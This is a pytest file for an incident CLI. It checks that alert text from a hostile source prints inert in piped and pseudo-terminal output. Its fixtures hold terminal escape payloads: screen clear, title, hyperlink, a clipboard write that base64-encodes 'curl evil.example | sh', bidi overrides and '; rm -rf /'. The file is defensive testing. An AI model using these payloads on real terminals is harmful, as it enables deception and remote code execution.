"""Untrusted text (labels, annotations, what a source or a command said) reaches people inert.

A hostile source serves alerts whose labels and annotations carry terminal escape sequences,
line breaks, bidi overrides, rich markup and a megabyte of text. `poll` stores them, `recover`
runs into them, and every human view (`list`, `show`, `report` in each format, the review,
`status`, `test`, error lines) is read as cron reads it (a pipe) and as a person does (a real
pseudo-terminal), with the CLI as a subprocess. No escape or C1 byte may reach the output, and
a line break in a label must not forge a line.
"""

from __future__ import annotations

import errno
import fcntl
import json
import os
import re
import struct
import subprocess
import sys
import termios
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from bench.common import AlertServer
from incident_cli.display import printable
from tests.support.binaries import cli_env, run_cli
from tests.support.history import History

ESC = "\x1b"
HOSTILE = {
    "clear": f"{ESC}[2J{ESC}[Hwiped",
    "title": f"{ESC}]0;pwned-title\x07",
    "link": f"{ESC}]8;;https://evil.example/{ESC}\\click me{ESC}]8;;{ESC}\\",
    "clipboard": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "conceal": f"{ESC}[8mhidden{ESC}[0m",
    "c1": "\x9b2J\x9d0;c1-title\x9c",
    "cr": "visible\rOVERWRITTEN",
    "bidi": "invoice\u202egnp.exe",
    "isolate": "a\u2066b\u2069c",
    "shell": "; rm -rf /",
    "option": "--help",
    "markup": "[red]x[/red] [link=https://evil.example]y[/link] :warning:",
}
# A line break in the title column: it must not become a row of its own in `list`.
FORGED = "999  open  critical  FORGED: all clear"
BIG = "A" * 1_000_000


def hostile_alerts() -> list[dict[str, Any]]:
    alerts = []
    for name, value in HOSTILE.items():
        alerts.append(
            {
                "labels": {
                    "alertname": f"Hostile {value}",
                    "case": name,
                    "service": value,
                    "kind": f"stderr {value}",
                },
                "annotations": {"summary": value, "description": f"first line\n{value}\nlast"},
                "state": "firing",
                "activeAt": "2026-11-28T20:29:14Z",
                "value": "1",
            }
        )
    alerts.append(
        {
            "labels": {"alertname": f"Hostile\n{FORGED}", "case": "newline", "service": "web"},
            "annotations": {"summary": f"ok\n{FORGED}"},
            "state": "firing",
            "activeAt": "2026-11-28T20:29:14Z",
            "value": "1",
        }
    )
    alerts.append(
        {
            "labels": {"alertname": "Hostile", "case": "big", "service": BIG},
            "annotations": {"description": BIG},
            "state": "firing",
            "activeAt": "2026-11-28T20:29:14Z",
            "value": "1",
        }
    )
    return alerts


@pytest.fixture(scope="module")
def hostile_source() -> Iterator[str]:
    source = AlertServer()
    source.set_alerts(hostile_alerts())
    yield source.url
    source.close()


@dataclass(frozen=True)
class Site:
    workdir: Path
    ids: dict[str, int]  # the alert's `case` label → incident id

    def cli(self, *args: str) -> Any:
        return run_cli(list(args), cwd=self.workdir)


@pytest.fixture(scope="module")
def site(hostile_source: str, tmp_path_factory: pytest.TempPathFactory) -> Site:
    """A state DB holding the hostile incidents, with actions that ran and were refused."""
    workdir = tmp_path_factory.mktemp("hostile")
    (workdir / "incident.yaml").write_text(
        f"""
sources:
  prometheus: {{type: prometheus, url: "{hostile_source}", timeout: 5s}}
recovery: {{enabled: true}}
rules:
  - name: hostile-markup
    match: {{case: markup}}
    handler: service_down
    recovery:
      commands: [[echo, "restart {{case}}", "it's"], [echo, second, "{{case}}"]]
      max_attempts: 1
  - name: hostile-clear
    match: {{case: clear}}
    handler: service_down
    recovery:
      commands: [[echo, "{{service}}"]]
      max_attempts: 1
  - name: hostile-title
    match: {{case: title}}
    handler: service_down
    recovery:
      commands: [[sh, -c, 'echo "$INCIDENT_LABEL_SERVICE"; echo "$INCIDENT_LABEL_KIND" >&2; exit 3']]
      max_attempts: 1
"""
    )
    polled = run_cli(["poll"], cwd=workdir)
    assert polled.code == 0, polled.stderr
    # Exit 1: the hostile-clear command is refused (the label may not reach its argv); the
    # hostile-title one runs and prints its labels, from the environment.
    assert run_cli(["recover"], cwd=workdir).code == 1
    listed = run_cli(["list", "--json"], cwd=workdir).json()
    return Site(workdir, {i["labels"]["case"]: i["id"] for i in listed})


# --------------------------------------------------------------------------- what leaked

_C1 = re.compile("[\x80-\x9f]")
_BIDI = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")


def assert_inert(text: str) -> None:
    """No escape sequence, C1 control, stray CR, bell or bidi control from the input."""
    assert ESC not in text
    assert "\x07" not in text
    assert "\r" not in text
    assert not _C1.search(text)
    assert not _BIDI.search(text)


ANNOTATION_INDENT = " " * 15  # `show`: where an annotation's value and its later lines start


def assert_no_forged_line(text: str, *, under_annotation: bool = False) -> None:
    """No line of the output begins with the text that followed a line break in a label.

    In `show`, an annotation value is a multi-line field: its later lines may start with
    anything, but only indented under its key.
    """
    for line in text.splitlines():
        if line.strip().startswith((FORGED[:8], "FORGED")):
            assert under_annotation and line.startswith(ANNOTATION_INDENT + FORGED[:8]), line


# --------------------------------------------------------------------------- piped (as cron)


def test_list_piped_shows_one_line_per_incident_and_nothing_raw(site: Site) -> None:
    result = site.cli("list")
    assert result.code == 0, result.stderr
    assert_inert(result.stdout)
    assert_no_forged_line(result.stdout)
    lines = result.stdout.splitlines()
    assert len(lines) == 1 + len(site.ids)  # the header, then one line each
    assert "[red]x[/red]" in result.stdout  # markup printed literally
    assert ":warning:" in result.stdout  # no emoji substitution either
    assert "; rm -rf /" in result.stdout and "--help" in result.stdout


@pytest.mark.parametrize("name", [*HOSTILE, "newline", "big"])
def test_show_piped_prints_every_hostile_incident_inert(site: Site, name: str) -> None:
    result = site.cli("show", str(site.ids[name]))
    assert result.code == 0, result.stderr
    assert_inert(result.stdout)
    if name in HOSTILE:
        assert printable(HOSTILE[name]) in result.stdout  # shown for what it is
    assert_no_forged_line(result.stdout, under_annotation=True)
    assert len(result.stdout) < 100_000  # a megabyte label is not a megabyte of terminal


def test_show_keeps_the_lines_of_a_multi_line_annotation_indented_under_its_key(
    site: Site,
) -> None:
    out = site.cli("show", str(site.ids["shell"])).stdout
    lines = out.splitlines()
    at = next(i for i, line in enumerate(lines) if line.startswith("  description  first line"))
    assert lines[at + 1] == ANNOTATION_INDENT + "; rm -rf /"
    assert lines[at + 2] == ANNOTATION_INDENT + "last"


def test_show_marks_a_line_break_inside_a_single_line_field(site: Site) -> None:
    out = site.cli("show", str(site.ids["newline"])).stdout
    lines = out.splitlines()
    assert lines[0].startswith(f"#{site.ids['newline']} Hostile⏎{FORGED}: ")  # the title
    assert any(
        line.startswith("  labels") and f"alertname=Hostile⏎{FORGED}" in line for line in lines
    )
    at = lines.index("  summary      ok")  # an annotation is a multi-line field
    assert lines[at + 1] == ANNOTATION_INDENT + FORGED


@pytest.mark.parametrize("fmt", ["table", "markdown", "html"])
def test_report_piped_is_inert_in_every_human_format(site: Site, fmt: str) -> None:
    result = site.cli("report", "100000", "--format", fmt, "--top", "50")
    assert result.code == 0, result.stderr
    assert_inert(result.stdout)
    assert_no_forged_line(result.stdout)
    assert "⏎" in result.stdout and "\ufffd" in result.stdout  # the top alerts, made visible


def test_report_to_a_file_is_inert(site: Site) -> None:
    target = site.workdir / "report.md"
    result = site.cli("report", "100000", "--format", "markdown", "--output", str(target))
    assert result.code == 0, result.stderr
    assert_inert(target.read_text())


@pytest.mark.parametrize("name", ["clear", "markup", "newline", "link", "c1", "bidi", "big"])
def test_the_review_draft_is_inert(site: Site, name: str) -> None:
    result = site.cli("report", "--incident", str(site.ids[name]))
    assert result.code == 0, result.stderr
    assert_inert(result.stdout)
    assert_no_forged_line(result.stdout)


@pytest.mark.parametrize("name", ["clear", "c1", "bidi"])
def test_json_output_keeps_the_exact_text_escaped(site: Site, name: str) -> None:
    result = site.cli("show", "--json", str(site.ids[name]))
    assert_inert(result.stdout)  # JSON escapes control, C1 and bidi characters ...
    assert result.json()["labels"]["service"] == HOSTILE[name]  # ... and keeps them


def test_logs_print_the_timeline_inert(site: Site) -> None:
    result = site.cli("logs")
    assert result.code == 0, result.stderr
    assert_inert(result.stdout)
    assert_no_forged_line(result.stdout)
    assert printable(f"Hostile {HOSTILE['bidi']}") in result.stdout


def test_logs_json_escapes_what_a_terminal_would_act_on(site: Site) -> None:
    result = site.cli("logs", "--json")
    assert result.code == 0, result.stderr
    assert_inert(result.stdout)
    events = [json.loads(line) for line in result.stdout.splitlines()]
    assert any(HOSTILE["c1"] in e["message"] for e in events)  # the exact text, once parsed


# --------------------------------------------------------------------------- a real terminal

# What rich itself writes on a colour terminal: SGR colour/bold sequences and nothing else.
_OUR_SGR = re.compile(r"\x1b\[[0-9;]*m")


def run_in_pty(args: list[str], cwd: Path, columns: int = 120) -> str:
    """The CLI as a subprocess whose stdout and stderr are a real pseudo-terminal."""
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 40, columns, 0, 0))
    env = cli_env({"TERM": "xterm-256color", "COLORTERM": "truecolor"})
    env.pop("NO_COLOR")
    proc = subprocess.Popen(
        [sys.executable, "-m", "incident_cli", *args],
        cwd=cwd,
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=slave,
        stderr=slave,
        close_fds=True,
    )
    os.close(slave)
    chunks = []
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError as exc:  # EIO: the child closed the terminal
            if exc.errno != errno.EIO:
                raise
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(master)
    assert proc.wait(timeout=60) == 0
    # The terminal turns \n into \r\n (onlcr): that CR is the terminal's, not the input's.
    return b"".join(chunks).decode("utf-8").replace("\r\n", "\n")


def assert_only_our_colours(text: str) -> str:
    """`text` without rich's own colour sequences, checked to hold nothing else."""
    assert _OUR_SGR.search(text), "expected a colour terminal"
    assert f"{ESC}[8m" not in text  # concealed text: rich never writes it for us
    plain = _OUR_SGR.sub("", text)
    assert_inert(plain)
    return plain


@pytest.mark.parametrize("name", ["clear", "title", "link", "clipboard", "conceal", "c1", "bidi"])
def test_show_on_a_terminal_prints_colours_but_no_hostile_sequence(site: Site, name: str) -> None:
    out = run_in_pty(["show", str(site.ids[name])], site.workdir)
    assert HOSTILE[name] not in out  # not even a sequence that looks like one of rich's
    plain = assert_only_our_colours(out)
    assert printable(HOSTILE[name]) in plain  # shown for what it is, not obeyed


def test_list_on_a_terminal_forges_no_row(site: Site) -> None:
    out = run_in_pty(["list"], site.workdir, columns=300)
    assert not [value for value in HOSTILE.values() if ESC in value and value in out]
    assert_no_forged_line(assert_only_our_colours(out))


@pytest.mark.parametrize("args", [["report", "100000"], ["report", "--incident", "{markup}"]])
def test_report_and_review_on_a_terminal_are_inert(site: Site, args: list[str]) -> None:
    args = [a.format(markup=site.ids["markup"]) for a in args]
    out = run_in_pty(args, site.workdir)
    assert_inert(_OUR_SGR.sub("", out))


# --------------------------------------------------------------------------- the one function


def test_printable_replaces_every_control_and_bidi_character() -> None:
    controls = "".join(chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0)])
    bidi = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    shown = printable(f"a{controls}{bidi}b")
    assert shown.startswith("a") and shown.endswith("b")
    assert all(ch in "�⏎ " for ch in shown[1:-1])
    assert_inert(shown)


def test_printable_shows_line_breaks_in_one_line_and_keeps_them_in_many() -> None:
    assert printable("a\nb\r\nc\rd\u2028e") == "a⏎b⏎c⏎d⏎e"
    assert printable("a\nb\r\nc\rd\u2028e", multiline=True) == "a\nb\nc\nd\ne"
    assert printable("tab\there") == "tab here"


def test_printable_keeps_ordinary_unicode_and_clips_long_text() -> None:
    assert printable("naïve café 日本 👍🏽 👨‍👩‍👧") == "naïve café 日本 👍🏽 👨‍👩‍👧"
    clipped = printable("x" * 5000, limit=100)
    assert len(clipped) <= 100 + 40 and clipped.startswith("x" * 99)
    assert "4900 more" in clipped or "…" in clipped


def test_printable_replaces_lone_surrogates_instead_of_failing_to_print() -> None:
    assert printable("a\udcffb") == "a�b"


# --------------------------------------------------------------------------- the other views


def test_status_prints_a_stored_source_error_inert(tmp_path: Path) -> None:
    h = History.at(tmp_path / "incident.db")
    now = time.time()
    h.heartbeat("run", ran=now - 60)
    error = f"answered {HOSTILE['clear']} {HOSTILE['link']}\n{FORGED}"
    h.source(f"prom{HOSTILE['title']}", checked=now - 60, failures=3, error=error)
    result = run_cli(["--db", str(tmp_path / "incident.db"), "status"], cwd=tmp_path)
    assert result.code == 1  # the failing source is a problem
    assert_inert(result.stdout)
    assert_no_forged_line(result.stdout)
    assert "failed 3 ticks in a row: answered" in result.stdout


def test_incident_test_prints_a_hostile_config_path_inert(tmp_path: Path) -> None:
    name = f"conf{HOSTILE['title']}{HOSTILE['clear']}\n✓ FORGED: all good.yaml"
    (tmp_path / name).write_text("rules: []\n")
    result = run_cli(["-c", name, "test", "--offline"], cwd=tmp_path)
    assert "config:" in result.stdout, result.stderr
    assert_inert(result.stdout + result.stderr)
    assert not any(line.startswith("✓ FORGED") for line in result.stdout.splitlines())


@pytest.fixture
def echoing_receiver() -> Iterator[str]:
    """A webhook receiver that refuses every message, quoting the service it did not know."""

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            sent = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            body = f"unknown service {sent['incident']['labels']['service']}".encode()
            self.send_response(400)
            self.send_header("Content-Type", "text/plain; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/hook"
    server.shutdown()
    server.server_close()


def test_a_channel_error_that_quotes_a_label_is_printed_inert(
    tmp_path: Path, echoing_receiver: str
) -> None:
    service = f"{HOSTILE['clear']}{HOSTILE['clipboard']}\n{FORGED}"
    alert = {
        "labels": {"alertname": "Quoted", "service": service, "severity": "critical"},
        "annotations": {},
        "state": "firing",
        "activeAt": "2026-11-28T20:29:14Z",
        "value": "1",
    }
    source = AlertServer()
    source.set_alerts([alert])
    (tmp_path / "incident.yaml").write_text(
        f'sources: {{prometheus: {{type: prometheus, url: "{source.url}"}}}}\n'
        f'channels: {{hook: {{type: webhook, url: "{echoing_receiver}"}}}}\n'
        "defaults: {notify: [hook]}\n"
    )
    try:
        assert run_cli(["poll"], cwd=tmp_path).code == 0
    finally:
        source.close()
    notified = run_cli(["notify"], cwd=tmp_path)
    assert notified.code == 1  # a 400 is a dead letter
    assert "answered HTTP 400: unknown service" in notified.stderr
    assert_inert(notified.stderr)
    assert_no_forged_line(notified.stderr)
    shown = run_cli(["show", "1"], cwd=tmp_path).stdout
    assert "unknown service" in shown
    assert_inert(shown)
    assert_no_forged_line(shown)
